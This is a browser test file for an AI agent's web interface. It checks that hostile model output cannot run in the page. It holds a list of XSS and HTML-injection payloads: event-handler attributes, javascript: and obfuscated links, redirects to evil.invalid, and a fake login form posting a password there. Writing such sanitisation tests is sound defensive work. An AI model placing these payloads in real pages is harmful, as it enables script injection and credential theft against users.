import { expect, test } from '@jest/globals';
import { bash, done, write } from '../emulators/model/index.ts';
import { countOf, press, reads, see, textsOf, until } from './look.ts';
import { openWeb } from './web.ts';

const web = openWeb();

/** What a model, a repository or a colleague might send to run in somebody's browser. */
const hostile = [
  '<img src=x onerror="globalThis.pwned=1">',
  '<script>globalThis.pwned=2</script>',
  '<svg onload="globalThis.pwned=3"><script>globalThis.pwned=4</script></svg>',
  '<iframe srcdoc="<script>parent.pwned=5</script>"></iframe>',
  '<a href="javascript:globalThis.pwned=6">raw link</a>',
  '[link](javascript:globalThis.pwned=7)',
  '[spaced]( javascript:globalThis.pwned=8)',
  '[entity](&#106;avascript:globalThis.pwned=9)',
  '[tabbed](java\tscript:globalThis.pwned=10)',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[vb](vbscript:globalThis.pwned=11)',
  '<javascript:globalThis.pwned=12>',
  '![tracking](http://tracker.invalid/pixel.png)',
  '![bad](javascript:globalThis.pwned=13)',
  '<style>body{display:none}</style>',
  '<form action="http://evil.invalid"><input name=password><button>Sign in</button></form>',
  '<base href="http://evil.invalid/">',
  '<meta http-equiv="refresh" content="0;url=http://evil.invalid">',
  '<details open ontoggle="globalThis.pwned=14">x</details>',
  '```html\n<img src=x onerror="globalThis.pwned=15">\n```',
  '| a |\n|---|\n| <img src=x onerror="globalThis.pwned=16"> |',
  '[^1]\n\n[^1]: <img src=x onerror="globalThis.pwned=17">',
  'http://ok.invalid/"onmouseover="globalThis.pwned=18',
].join('\n\n');

test('nothing that is said, shown or changed runs in the page, loads from elsewhere or leads to a script', async () => {
  const { stack, browser, page: open, sessionPage } = web();
  stack.model.script('hostile', [
    {
      say: hostile,
      calls: [
        bash(`cat <<'END'\n${hostile}\nEND`),
        write('<img src=x onerror=pwned=20>.md', hostile),
        { tool: 'ask', input: { question: hostile, choices: ['<img src=x onerror="globalThis.pwned=21">'] } },
      ],
    },
  ]);
  stack.model.script('drawn', [done('Drawn.')]);
  const session = await stack.ask(`${hostile}\n#hostile`, {
    title: '<img src=x onerror="globalThis.pwned=22">',
  });
  await session.finished();

  const page = await sessionPage(session.sessionId);
  const requested: string[] = [];
  page.on('request', request => void requested.push(request.url()));
  await page.reload();
  await see(page, 'turn-end');
  for (const line of await page.$$('[data-testid=tool]')) await line.click();
  await see(page, 'choice');
  await reads(page, 'session-title', '<img src=x');

  const unsafe = await page.$$eval('#root *', parts =>
    parts.flatMap(part => {
      const isOdd = ['SCRIPT', 'IFRAME', 'STYLE', 'FORM', 'BASE', 'META', 'OBJECT', 'EMBED'].includes(
        part.tagName,
      );
      const handlers = part.getAttributeNames().filter(name => name.startsWith('on'));
      const href = part.getAttribute('href') ?? '';
      const scheme = /^\s*([a-z][a-z0-9+.-]*):/i.exec(href)?.[1]?.toLowerCase();
      const badLink =
        scheme !== undefined && !['http', 'https', 'mailto', 'xmpp', 'irc', 'ircs'].includes(scheme);
      return (isOdd && !part.matches('form.dh-composer')) || handlers.length > 0 || badLink
        ? part.outerHTML
        : [];
    }),
  );
  expect(unsafe).toEqual([]);
  expect(await countOf(page, '.dh-timeline img')).toBe(0);
  const links = await page.$$eval('.dh-markdown a[href]', parts =>
    parts
      .filter(part => !part.getAttribute('href')?.startsWith('#'))
      .map(part => [part.getAttribute('target'), part.getAttribute('rel')]),
  );
  expect(links.length).toBeGreaterThan(0);
  for (const [target, rel] of links)
    expect([target, rel]).toEqual(['_blank', 'noopener noreferrer nofollow']);

  const diff = await open(`/sessions/${session.sessionId}/diff`);
  diff.on('request', request => void requested.push(request.url()));
  await see(diff, 'diff-file');
  await reads(diff, 'diff', 'onerror');
  const home = await open();
  await reads(home, 'session-row', '<img src=x');
  for (const each of [page, diff, home])
    expect(await each.evaluate(() => (globalThis as unknown as { pwned?: number }).pwned)).toBeUndefined();
  expect(
    requested.filter(url => new URL(url).origin !== stack.server.url && !url.startsWith('data:')),
  ).toEqual([]);
  // No violation of the page's policy either: the console would have told.
  await browser.settle();
});

test('a picture in the model’s words is a link, and a footnote stays in the page', async () => {
  const { stack, sessionPage } = web();
  stack.model.script('picture', [done('Look: ![the chart](https://pictures.invalid/a.png)')]);
  const session = await stack.ask('Draw #picture');
  await session.finished();
  const page = await sessionPage(session.sessionId);
  await reads(page, '.dh-message a', 'the chart');
  expect(await page.$eval('.dh-message a', part => part.getAttribute('href'))).toBe(
    'https://pictures.invalid/a.png',
  );
});

test('terminal codes in output draw colours and nothing else', async () => {
  const { stack, sessionPage } = web();
  const codes =
    "printf '\\033]8;;javascript:pwned=1\\007link\\033]8;;\\007 \\033[2J\\033[H\\033[31mred\\033[0m <b>bold</b>\\n'";
  stack.model.script('codes', [{ calls: [bash(codes)] }, done()]);
  const session = await stack.ask('Print #codes');
  await session.finished();
  const page = await sessionPage(session.sessionId);
  await press(page, 'tool');
  await reads(page, '.dh-output-output', '<b>bold</b>');
  expect(await countOf(page, '.dh-output-output b, .dh-output-output a')).toBe(0);
  expect((await textsOf(page, '.dh-output-output')).join()).toContain('red');
  await until(page, () => document.querySelector('.dh-output-output') !== null, []);
});
